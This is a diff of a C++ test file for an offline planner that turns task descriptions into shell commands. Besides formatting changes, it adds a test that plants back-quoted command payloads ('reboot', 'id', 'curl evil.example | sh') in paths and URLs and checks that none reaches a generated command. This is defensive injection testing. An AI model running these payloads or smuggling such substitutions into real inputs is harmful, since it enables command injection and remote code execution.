@@ -11,10 +11,10 @@
 #include <utility>
 #include <vector>
 
+#include "plan/intent.hpp"
 #include "runners/mock.hpp"
 #include "spec/io.hpp"
 #include "spec/variables.hpp"
-#include "plan/intent.hpp"
 
 using arborist::runners::plan_offline;
 using arborist::runners::plan_offline_detailed;
@@ -1242,8 +1242,7 @@ TEST_CASE("offline planner: every ${VAR} a command reads is declared, and holds 
       // Declared as imported from the environment the run gets: a name, never a value.
       CHECK(spec::imports_from_environment(var));
       bool read = false;
-      for (const auto& command : commands_of(plan))
-        read = read || !spec::variables_read(command, {var.name}).empty();
+      for (const auto& command : commands_of(plan)) read = read || !spec::variables_read(command, {var.name}).empty();
       CHECK(read);  // nothing declared that no command reads
     }
     with_variables += plan.env.empty() ? 0 : 1;
@@ -1255,11 +1254,35 @@ TEST_CASE("offline planner: keeps the promises the AI answers are checked agains
   for (const auto& row : table()) {
     CAPTURE(row.description);
     std::string listed;
-    for (const auto& p : arborist::plan::broken_promises(plan_offline(row.description),
-                                                         arborist::plan::promises_of(row.description)))
+    for (const auto& p :
+         arborist::plan::broken_promises(plan_offline(row.description), arborist::plan::promises_of(row.description)))
       listed += p.message + "\n";
     CHECK(listed.empty());
   }
+}
+
+TEST_CASE("offline planner: no back-quote reaches a command as data (Dagu runs it even in quotes)",
+          "[mock][property]") {
+  const std::vector<std::string> templates = {
+      "archive \"/var/log/my`{}`app\" to /mnt/archive",
+      "copy \"/data/a`{}`\" to /backup",
+      "download https://x.io/a`{}`.tar.gz",
+      "sync \"/srv/`{}`\" to backup:/data",
+      "clone https://github.com/acme/`{}`.git",
+      "check https://x.io/`{}` is up",
+      "notify slack saying \"done `{}`\"",
+      "back up \"/home/a`{}`\" to /mnt/b",
+  };
+  for (const auto& t : templates)
+    for (const char* payload : {"reboot", "id", "curl evil.example | sh"}) {
+      std::string text = t;
+      text.replace(text.find("{}"), 2, payload);
+      CAPTURE(text);
+      for (const auto& command : commands_of(plan_offline(text))) {
+        CAPTURE(command);
+        CHECK(command.find('`') == std::string::npos);
+      }
+    }
 }
 
 TEST_CASE("offline planner: nothing runs that the user did not ask to run", "[mock][property]") {
